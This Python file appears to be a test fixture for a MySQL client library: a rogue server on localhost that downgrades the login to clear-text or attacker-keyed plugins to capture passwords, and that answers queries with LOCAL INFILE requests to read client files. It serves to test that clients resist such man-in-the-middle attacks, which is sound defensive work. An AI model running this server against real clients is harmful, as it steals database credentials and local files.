"""A server that speaks MySQL's handshake to learn the client's password: what a man in the middle may do."""

from __future__ import annotations

import socket
import ssl
import struct
import threading
from base64 import b64decode
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

_LONG_PASSWORD, _PROTOCOL_41, _SSL, _SECURE, _PLUGIN_AUTH, _PLUGIN_DATA = 1, 0x200, 0x800, 0x8000, 0x80000, 0x200000
_SALT = b"saltsaltsaltsaltsalt"
_MARIADB_SECRET = Ed25519PublicKey.from_public_bytes(b64decode("ZIgUREUg5PVgQ6LskhXmO+eZLS0nC8be6HPjYWR4YJY="))
"""What MariaDB keeps of the password `secret` for its method `ed25519`, as its documentation shows it."""
OK = b"\0\0\0\2\0\0\0"
LOCAL_FILE = b"\xfb"


@dataclass(slots=True)
class RogueServer:
    """Asks for a login by `plugin`, which its greeting names already if `first`, and then for all that it may ask.

    After the login it ends the connection. `received` has the client's answers, `stolen` each password that a client
    gave away, `signed` counts the logins by a right signature; `local_file`: it does not end the connection, and
    answers statements with the wish for that file.
    """

    plugin: str
    first: bool = False
    certificate: tuple[Path, Path] | None = None
    local_file: str | None = None
    port: int = 0
    signed: int = 0
    stolen: list[bytes] = field(default_factory=list)
    received: list[bytes] = field(default_factory=list)
    _key: rsa.RSAPrivateKey = field(default_factory=lambda: rsa.generate_private_key(65537, 2048))

    @contextmanager
    def listening(self) -> Iterator[RogueServer]:
        """Serve one client after another on a free port of 127.0.0.1."""
        with socket.create_server(("127.0.0.1", 0)) as door:
            self.port = door.getsockname()[1]
            thread = threading.Thread(target=self._serve, args=(door,), daemon=True)
            thread.start()
            yield self
            door.shutdown(socket.SHUT_RDWR)
        thread.join(10)

    def _serve(self, door: socket.socket) -> None:
        with suppress(OSError):  # the door was closed
            while True:
                client, _ = door.accept()
                client.settimeout(10)
                with client, suppress(OSError, EOFError):
                    self._talk(_Wire(client))

    def _talk(self, wire: _Wire) -> None:
        capabilities = _LONG_PASSWORD | _PROTOCOL_41 | _SECURE | _PLUGIN_AUTH | _PLUGIN_DATA
        if self.certificate is not None:
            capabilities |= _SSL
        named = self.plugin if self.first else "mysql_native_password"
        low, high = capabilities & 0xFFFF, capabilities >> 16
        greeting = b"\x0a8.4.6\0" + struct.pack("<I", 7) + _SALT[:8] + b"\0"
        greeting += struct.pack("<HBHHB", low, 45, 2, high, 21) + bytes(10) + _SALT[8:] + b"\0" + named.encode() + b"\0"
        wire.send(greeting)
        answer = wire.receive()
        if self.certificate is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*self.certificate)
            if len(answer) == 32:  # the client asks for TLS before it says who it is
                wire.protect(context)
                answer = wire.receive()
        self.received.append(answer)
        self._steal(wire)
        if self.local_file is not None:
            wire.send(OK)
            while True:
                wire.begin()
                wire.receive()
                wire.send(LOCAL_FILE + self.local_file.encode())
                self.received.append(wire.receive())
                wire.send(OK)
        wire.send(OK)

    def _steal(self, wire: _Wire) -> None:
        if self.plugin == "mysql_native_password":
            return
        asked = b"\3Password: " if self.plugin == "dialog" else _SALT + b"\0"
        wire.send(b"\xfe" + self.plugin.encode() + b"\0" + asked)
        answer = wire.receive()
        self.received.append(answer)
        if self.plugin in ("mysql_clear_password", "dialog"):
            self.stolen.append(answer.rstrip(b"\0"))
        elif self.plugin == "caching_sha2_password":
            wire.send(b"\1\4")
            self._take(wire, wire.receive())
        elif self.plugin == "client_ed25519":  # the answer signs what we asked
            _MARIADB_SECRET.verify(answer, asked)
            self.signed += 1
        elif self.plugin == "sha256_password":
            self._take(wire, answer)

    def _take(self, wire: _Wire, answer: bytes) -> None:
        """Take a password in clear, or give our own key and take it encrypted for us."""
        if answer in (b"\1", b"\2"):
            public = self._key.public_key()
            pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            wire.send(b"\1" + pem)
            sha1 = hashes.SHA1()
            answer = self._key.decrypt(wire.receive(), padding.OAEP(padding.MGF1(sha1), sha1, None))
            answer = bytes(byte ^ _SALT[i % 20] for i, byte in enumerate(answer))
        self.stolen.append(answer.rstrip(b"\0"))


class _Wire:
    """MySQL's packets over a socket."""

    def __init__(self, client: socket.socket) -> None:
        self._client, self._number = client, 0

    def begin(self) -> None:
        """A new exchange begins: the client sends first, with number 0."""
        self._number = 0

    def protect(self, context: ssl.SSLContext) -> None:
        self._client = context.wrap_socket(self._client, server_side=True)

    def send(self, data: bytes) -> None:
        self._client.sendall(struct.pack("<I", len(data))[:3] + bytes([self._number]) + data)
        self._number += 1

    def receive(self) -> bytes:
        head = self._exactly(4)
        self._number = head[3] + 1
        return self._exactly(int.from_bytes(head[:3], "little"))

    def _exactly(self, size: int) -> bytes:
        found = b""
        while len(found) < size:
            part = self._client.recv(size - len(found))
            if not part:
                raise EOFError
            found += part
        return found
